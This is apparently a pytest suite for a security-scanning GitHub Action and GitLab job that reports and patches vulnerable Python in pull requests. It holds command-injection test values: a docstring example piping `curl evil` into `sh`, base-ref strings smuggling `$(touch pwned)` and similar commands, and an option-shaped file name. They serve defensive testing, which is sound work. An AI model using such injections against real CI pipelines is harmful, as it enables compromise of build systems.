"""The GitHub Action, run here: action.yml's own steps, its `run:` commands as written, on a pull
request in a real git repository: a base commit with a vulnerable file already there, and a pull
request commit adding another. The install step is the real `pip install` of the action's folder
(a copy of this checkout) into a fresh virtual environment, which sees this one's dependencies.
The `uses:` steps (setup-python, upload-sarif) need GitHub; their inputs are checked instead."""

from __future__ import annotations

import http.server
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import threading
import urllib.parse
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests._gitrepo import CONFIG_PY, SHELL_PY, environ, git
from tests._trees import pyproject
from tests.ci._runner import Context, Step, inputs_of, run_steps

ROOT = Path(__file__).resolve().parents[2]
ACTION = yaml.safe_load((ROOT / "action.yml").read_text())
SHIPPED = ["action.yml", "ci", "src", "pyproject.toml", "README.md"]  # what pip needs of the action's folder
HOSTILE_NAME = "--output=pwned.py"  # a pull request's file named like an option


def _copy_action(dest: Path) -> Path:
    dest.mkdir()
    for name in SHIPPED:
        source = ROOT / name
        if source.is_dir():
            shutil.copytree(source, dest / name, ignore=shutil.ignore_patterns("__pycache__", "*.egg-info"))
        else:
            shutil.copy2(source, dest / name)
    return dest


def _venv(dest: Path) -> Path:
    """A fresh environment standing in for setup-python's: this one's packages visible, ProvenFix not."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(dest)], check=True, timeout=120)
    python = dest / "bin" / "python"
    purelib = subprocess.run([str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
                             capture_output=True, text=True, check=True).stdout.strip()
    # Our dependencies (and pip) without reinstalling them; not our editable ProvenFix: a .pth in a
    # folder named by a .pth is not read, so the installed copy is the one imported.
    Path(purelib, "deps.pth").write_text(sysconfig.get_paths()["purelib"] + "\n")
    return python


def _repository(top: Path) -> Path:
    """origin: main has service/ with tools/config.py (yaml.load); branch feature adds tools/shell.py
    (os.system), a test, and a benign file named like an option. The workspace is a clone of feature
    only, as actions/checkout leaves it: origin/main must be fetched."""
    seed = top / "seed"
    service = seed / "service"
    (service / "tools").mkdir(parents=True)
    (service / "tests").mkdir()
    (service / "pyproject.toml").write_text(pyproject("service"))
    (service / "tools" / "__init__.py").write_text("")
    (service / "tools" / "config.py").write_text(CONFIG_PY)
    (service / "tests" / "test_config.py").write_text(
        "from tools.config import parse\n\n\ndef test_parse():\n    assert parse('a: 1') == {'a': 1}\n")
    (seed / "README.md").write_text("# a repository with a Python service in it\n")
    git(seed.parent, "init", "-q", "-b", "main", str(seed))
    git(seed, "add", "-A")
    git(seed, "commit", "-q", "-m", "base")
    git(seed, "switch", "-q", "-c", "feature")
    (service / "tools" / "shell.py").write_text(SHELL_PY)
    (service / "tools" / HOSTILE_NAME).write_text("VALUE = 1\n")
    (service / "tests" / "test_shell.py").write_text(
        "import os\nfrom tools.shell import make_dir\n\n\ndef test_make_dir(tmp_path):\n"
        "    os.system('true ' + str(tmp_path))\n    assert make_dir(str(tmp_path / 'x')) == 0\n")
    git(seed, "add", "-A")
    git(seed, "commit", "-q", "-m", "add make_dir")
    git(top, "clone", "-q", "--bare", str(seed), str(top / "origin.git"))
    workspace = top / "workspace"
    git(top, "clone", "-q", "--single-branch", "--branch", "feature", str(top / "origin.git"), str(workspace))
    return workspace


class Run:
    def __init__(self, top: Path) -> None:
        self.top = top
        self.action_path = _copy_action(top / "action")
        self.python = _venv(top / "venv")
        self.workspace = _repository(top)
        self.github = {"action_path": str(self.action_path), "base_ref": "main", "workspace": str(self.workspace)}
        self.env = environ(PATH=f"{self.python.parent}{os.pathsep}{os.environ['PATH']}")

    def steps(self, only: set[str] | None = None, **given: str) -> tuple[list[Step], Context]:
        context = Context(inputs_of(ACTION, given, self.github), self.github)
        scratch = self.top / f"runner-{len(list(self.top.glob('runner-*')))}"
        scratch.mkdir()
        return run_steps(ACTION, context, cwd=self.workspace, env=self.env, scratch=scratch, only=only), context


@pytest.fixture(scope="module")
def pr(tmp_path_factory: pytest.TempPathFactory) -> tuple[Run, dict[str, Step]]:
    run = Run(tmp_path_factory.mktemp("action"))
    steps, _ = run.steps(path="service", fix="true")
    return run, {s.name: s for s in steps}


def _ok(step: Step) -> None:
    assert step.ran and step.process is not None
    assert step.process.returncode == 0, step.process.stdout[-2000:] + step.process.stderr[-3000:]


def test_every_input_reaches_the_shell_through_env_only() -> None:
    """A `${{ }}` inside `run:` is pasted into the script before bash reads it: a branch name like
    `a";curl evil|sh;"` would run. Here no `run:` holds one."""
    for step in ACTION["runs"]["steps"]:
        if "run" in step:
            assert "${{" not in step["run"], step
            assert step["shell"] == "bash"
    assert ACTION["runs"]["using"] == "composite"


def test_installs_provenfix_from_the_action_folder(pr) -> None:
    run, steps = pr
    _ok(steps["Install ProvenFix"])
    where = subprocess.run([str(run.python), "-c", "import provenfix; print(provenfix.__file__)"],
                           capture_output=True, text=True, env=run.env, check=True).stdout
    assert where.startswith(str(run.top / "venv")), where  # the copy pip installed, not this checkout


def test_sarif_holds_the_pull_requests_finding_only(pr) -> None:
    run, steps = pr
    scan = steps["scan"]
    _ok(scan)
    assert scan.outputs == {"sarif-file": "provenfix.sarif", "findings": "1"}
    log = json.loads((run.workspace / "provenfix.sarif").read_text())
    (sarif_run,) = log["runs"]
    (result,) = sarif_run["results"]  # not the base's yaml.load, not the test file's os.system
    assert result["ruleId"] == "PF-CMD"
    location = result["locations"][0]["physicalLocation"]["artifactLocation"]
    assert location == {"uri": "service/tools/shell.py", "uriBaseId": "%SRCROOT%"}  # from the repository's root
    assert sarif_run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == run.workspace.resolve().as_uri() + "/"
    assert sarif_run["automationDetails"] == {"id": "provenfix/"}
    assert "ProvenFix: 2 changed Python file(s) in service" in scan.process.stderr  # shell.py and the odd name


def test_upload_step_gets_that_sarif(pr) -> None:
    _, steps = pr
    upload = steps["Upload to code scanning"]
    assert upload.uses is not None and upload.uses.startswith("github/codeql-action/upload-sarif@")
    assert not upload.skipped and upload.with_ == {"sarif_file": "provenfix.sarif"}
    assert steps["Set up Python"].with_ == {"python-version": "3.12"}


def test_comment_file_holds_the_diff_and_the_proof_test(pr) -> None:
    run, steps = pr
    fix = steps["fix"]
    _ok(fix)
    assert fix.outputs == {"comment-file": "provenfix-comment.md", "patch-file": "provenfix.patch"}
    comment = (run.workspace / "provenfix-comment.md").read_text()
    assert comment.startswith("# ProvenFix: 1 verified security fix")
    assert "```diff" in comment and '+    return subprocess.run(["mkdir", "-p", directory]' in comment
    assert "def test_pf_cmd_make_dir_is_not_exploitable" in comment  # the proof test itself
    assert "PF-YAML" not in comment
    assert steps["Fail on findings"].skipped


def test_patch_file_applies_to_the_pull_request(pr) -> None:
    run, _ = pr
    patch = (run.workspace / "provenfix.patch").read_text()
    assert "--- a/tools/shell.py" in patch and "new file mode 100644" in patch  # the fix, its proof test
    git(run.workspace, "apply", "--check", "--directory=service", "provenfix.patch")  # paths are the project's


def test_nothing_in_the_checkout_changed_but_the_reports(pr) -> None:
    run, _ = pr
    status = git(run.workspace, "status", "--porcelain", "--untracked-files=all").splitlines()
    assert sorted(status) == ["?? provenfix-comment.md", "?? provenfix.patch", "?? provenfix.sarif"]
    assert not (run.workspace / "pwned.py").exists() and not (run.workspace / "service" / "pwned.py").exists()


def test_fail_on_findings_fails_the_job(pr) -> None:
    run, _ = pr
    steps, _ = run.steps({"scan", "Fail on findings"}, path="service", **{"fail-on-findings": "true",
                                                                           "sarif-file": "again.sarif"})
    fail = steps[-1]
    assert fail.ran and fail.process.returncode == 1
    assert "::error title=ProvenFix::1 open finding(s) in the changed files" in fail.process.stdout


def test_a_push_scans_the_whole_project(pr) -> None:
    run, _ = pr
    steps, _ = run.steps({"scan"}, path="service", **{"base-ref": "", "sarif-file": "push.sarif"})
    _ok(steps[0])
    results = json.loads((run.workspace / "push.sarif").read_text())["runs"][0]["results"]
    assert sorted(r["ruleId"] for r in results) == ["PF-CMD", "PF-YAML"]


def test_no_python_change_is_an_empty_analysis(pr) -> None:
    run, _ = pr
    steps, _ = run.steps({"scan"}, path="service", **{"base-ref": "feature", "sarif-file": "none.sarif"})
    _ok(steps[0])
    assert steps[0].outputs["findings"] == "0"
    log: dict[str, Any] = json.loads((run.workspace / "none.sarif").read_text())
    assert log["runs"][0]["results"] == [] and log["runs"][0]["automationDetails"] == {"id": "provenfix/"}


@pytest.mark.parametrize("base", ['main"; touch pwned; echo "', "$(touch pwned)", "`touch pwned`", "-o pwned",
                                  "main\n::set-output name=findings::0"])
def test_a_hostile_base_ref_is_only_a_name(pr, base: str) -> None:
    run, _ = pr
    steps, _ = run.steps({"scan"}, path="service", **{"base-ref": base, "sarif-file": "hostile.sarif"})
    step = steps[0]
    assert step.ran and step.process.returncode == 2
    assert step.process.stderr.startswith("::error title=ProvenFix::base-ref ")
    assert len(step.process.stderr.strip().splitlines()) == 1 and "Traceback" not in step.process.stderr
    assert step.outputs == {}
    assert not list(run.workspace.rglob("pwned")) and not list(run.top.glob("pwned"))


# --- the GitLab CI job (ci/gitlab/provenfix.gitlab-ci.yml), its script as GitLab runs it ---

GITLAB = yaml.safe_load((ROOT / "ci" / "gitlab" / "provenfix.gitlab-ci.yml").read_text())["provenfix"]


class _Notes(http.server.BaseHTTPRequestHandler):
    """Stands in for GitLab's notes API (the real one needs GitLab): keeps what curl sent."""
    received: list[tuple[str, str, bytes]] = []

    def do_POST(self) -> None:  # noqa: N802 (http.server's name)
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.received.append((self.path, self.headers["PRIVATE-TOKEN"], body))
        self.send_response(201)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


def _bash(lines: list[str], cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """GitLab's shell: the lines in one session, stopping at the first that fails."""
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", "\n".join(lines)], cwd=cwd,
                          env=env, capture_output=True, text=True, timeout=600)


def test_gitlab_job_fixes_and_posts_the_report(pr, tmp_path: Path) -> None:
    run, _ = pr
    mr = tmp_path / "mr"
    git(tmp_path, "clone", "-q", str(run.workspace), str(mr))
    install, *script = GITLAB["script"]
    assert install == "pip install --quiet provenfix"  # not published from here: the Action's install stands in
    env = {**run.env, **GITLAB["variables"], "PROVENFIX_PATH": "service"}
    job = _bash(script, mr, env)
    assert job.returncode in GITLAB["allow_failure"]["exit_codes"] + [0], job.stderr[-3000:]
    report = (mr / "provenfix.md").read_text()
    assert "# ProvenFix: 2 verified security fixes" in report and "```diff" in report
    git(mr, "apply", "--check", "--directory=service", "provenfix.patch")
    assert sorted(GITLAB["artifacts"]["paths"]) == ["provenfix.md", "provenfix.patch"]

    server = http.server.HTTPServer(("127.0.0.1", 0), _Notes)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        posted = _bash(GITLAB["after_script"], mr, {
            **env, "PROVENFIX_GITLAB_TOKEN": "glpat-test", "CI_API_V4_URL": f"http://127.0.0.1:{server.server_port}/api/v4",
            "CI_PROJECT_ID": "7", "CI_MERGE_REQUEST_IID": "3"})
    finally:
        server.shutdown()
    assert posted.returncode == 0, posted.stderr
    ((path, token, body),) = _Notes.received
    assert path == "/api/v4/projects/7/merge_requests/3/notes" and token == "glpat-test"
    assert urllib.parse.parse_qs(body.decode())["body"] == [report]
